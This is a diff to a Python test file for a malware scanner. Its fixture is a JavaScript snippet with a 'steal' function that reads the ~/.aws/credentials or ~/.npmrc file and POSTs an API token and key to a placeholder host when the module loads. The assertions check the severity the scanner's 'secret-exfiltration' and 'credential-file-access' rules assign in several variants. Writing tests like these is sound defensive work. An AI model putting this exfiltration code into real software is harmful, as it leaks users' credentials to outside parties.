@@ -486,12 +486,15 @@ def test_functions_called_at_module_level_run_at_load_time() -> None:
 const fs = require('fs'), os = require('os');
 async function main() { await steal(); }
 async function steal() {
-  const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
-  await fetch('https://api.example.invalid/v1', { method: 'POST', body: process.env.ACME_API_TOKEN + key });
+  const cfg = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+  await fetch('https://api.example.invalid/v1', { method: 'POST', body: process.env.ACME_API_TOKEN });
 }
 main().catch(() => {});
 """
     found = rules(code)
-    assert found["credential-file-access"] is Severity.HIGH and found["secret-exfiltration"] is Severity.CRITICAL
+    assert found["secret-exfiltration"] is Severity.CRITICAL  # sent when the file is loaded
+    assert found["credential-file-access"] is Severity.MEDIUM  # config readers run from such functions too
     library = code.replace("main().catch(() => {});", "module.exports = main;")
-    assert rules(library)["credential-file-access"] is Severity.MEDIUM
+    assert rules(library)["secret-exfiltration"] is Severity.MEDIUM
+    callback = code.replace("main().catch(() => {});", "process.on('exit', () => main());")
+    assert rules(callback)["secret-exfiltration"] is Severity.MEDIUM  # a callback defined, not called, at load
